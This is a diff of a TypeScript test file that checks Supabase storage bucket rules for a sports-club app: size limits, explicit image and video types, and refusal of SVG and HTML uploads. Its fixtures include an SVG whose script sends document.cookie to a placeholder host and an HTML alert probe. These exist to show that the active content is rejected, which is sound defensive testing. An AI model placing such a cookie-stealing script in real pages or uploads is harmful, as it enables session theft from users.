@@ -1,4 +1,5 @@
-// Storage policies from 20261122080300_storage.sql, through the storage API: who may upload where.
+// Storage policies from 20261122080300_storage.sql and the bucket limits of 20261123100000, through
+// the storage API: who may upload where, and what.
 import type { SupabaseClient } from '@supabase/supabase-js';
 import pg from 'pg';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -11,6 +12,8 @@ const ids = {} as Record<Who, string>;
 let pool: pg.Pool;
 let teamA: number;
 let n = 0;
+
+const RASTER = ['image/jpeg', 'image/png', 'image/webp', 'image/gif', 'image/avif'];
 
 // a 1×1 PNG
 const PNG = Buffer.from(
@@ -85,13 +88,118 @@ describe('storage buckets', () => {
       'team-media',
       'venues',
     ]);
+    const MiB = 1024 * 1024;
+    const limits: Record<string, number> = {
+      articles: 5 * MiB,
+      avatars: 2 * MiB,
+      branding: 2 * MiB,
+      gallery: 50 * MiB,
+      'player-photos': 5 * MiB,
+      'team-media': 5 * MiB,
+      venues: 5 * MiB,
+    };
     for (const r of rows) {
       expect(r.public).toBe(true);
-      expect(Number(r.file_size_limit)).toBeGreaterThan(0);
+      expect(Number(r.file_size_limit)).toBe(limits[r.id]);
+      // Explicit types only: a wildcard would let image/svg+xml in.
       expect(r.allowed_mime_types).toEqual(
-        r.id === 'gallery' ? ['image/*', 'video/*'] : ['image/*'],
+        r.id === 'gallery' ? [...RASTER, 'video/mp4', 'video/webm'] : RASTER,
       );
     }
+  });
+});
+
+describe('no active content', () => {
+  const SVG = Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.test/?"+document.cookie)</script></svg>',
+  );
+  const HTML = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
+  const stored = (bucket: string, path: string) =>
+    pool.query('select 1 from storage.objects where bucket_id = $1 and name = $2', [bucket, path]);
+
+  it.each(['gallery', 'avatars'])(
+    'a player’s SVG with a script is refused in %s, and nothing is stored',
+    async (bucket) => {
+      const path = `${ids.player}/evil-${++n}.svg`;
+      const { error } = await upload('player', bucket, path, 'image/svg+xml', SVG);
+      expect(error).toMatchObject({ statusCode: '415' });
+      expect((await stored(bucket, path)).rowCount).toBe(0);
+    },
+  );
+
+  it('no bucket takes SVG, even from an admin', async () => {
+    const paths: Record<string, string> = {
+      avatars: `${ids.admin}/logo-${++n}.svg`,
+      'team-media': `${teamA}/logo-${++n}.svg`,
+      'player-photos': `${teamA}/p-${++n}.svg`,
+      gallery: `${ids.admin}/g-${++n}.svg`,
+      branding: `logo-${++n}.svg`,
+      articles: `cover-${++n}.svg`,
+      venues: `campo-${++n}.svg`,
+    };
+    for (const [bucket, path] of Object.entries(paths)) {
+      const { error } = await upload('admin', bucket, path, 'image/svg+xml', SVG);
+      expect({ bucket, status: error?.statusCode }).toEqual({ bucket, status: '415' });
+    }
+  });
+
+  it('HTML is refused, whatever the extension', async () => {
+    for (const path of [`${ids.player}/page-${++n}.html`, `${ids.player}/page-${++n}.png`]) {
+      const { error } = await upload('player', 'gallery', path, 'text/html', HTML);
+      expect(error).toMatchObject({ statusCode: '415' });
+    }
+  });
+
+  it('SVG bytes declared as PNG are stored as declared and served as image/png with nosniff', async () => {
+    // Storage checks the declared type, as Supabase's does; what keeps a browser from running
+    // the document is that it is only ever served as an image it cannot decode, never sniffed.
+    const path = `${ids.player}/disguised-${++n}.png`;
+    const { error } = await upload('player', 'gallery', path, 'image/png', SVG);
+    expect(error).toBeNull();
+    const response = await fetch(
+      clients.anon.storage.from('gallery').getPublicUrl(path).data.publicUrl,
+    );
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('image/png');
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+  });
+
+  it('the gallery takes MP4 and WebM videos only', async () => {
+    const video = (type: string, ext: string) =>
+      upload('player', 'gallery', `${ids.player}/clip-${++n}.${ext}`, type, Buffer.from('0000'));
+    expect((await video('video/mp4', 'mp4')).error).toBeNull();
+    expect((await video('video/webm', 'webm')).error).toBeNull();
+    for (const [type, ext] of [
+      ['video/quicktime', 'mov'],
+      ['video/x-msvideo', 'avi'],
+      ['video/ogg', 'ogv'],
+    ]) {
+      expect((await video(type, ext)).error).toMatchObject({ statusCode: '415' });
+    }
+    const inAvatars = await upload(
+      'player',
+      'avatars',
+      `${ids.player}/clip-${++n}.mp4`,
+      'video/mp4',
+      Buffer.from('0000'),
+    );
+    expect(inAvatars.error).toMatchObject({ statusCode: '415' });
+  });
+
+  it('enforces the size limit: an avatar of 2 MiB is taken, one byte more is refused', async () => {
+    const limit = 2 * 1024 * 1024;
+    const fits = await upload(
+      'player',
+      'avatars',
+      `${ids.player}/big-${++n}.png`,
+      'image/png',
+      Buffer.alloc(limit, 1),
+    );
+    expect(fits.error).toBeNull();
+    const path = `${ids.player}/big-${++n}.png`;
+    const tooBig = await upload('player', 'avatars', path, 'image/png', Buffer.alloc(limit + 1, 1));
+    expect(tooBig.error).toMatchObject({ statusCode: '413' });
+    expect((await stored('avatars', path)).rowCount).toBe(0);
   });
 });
 
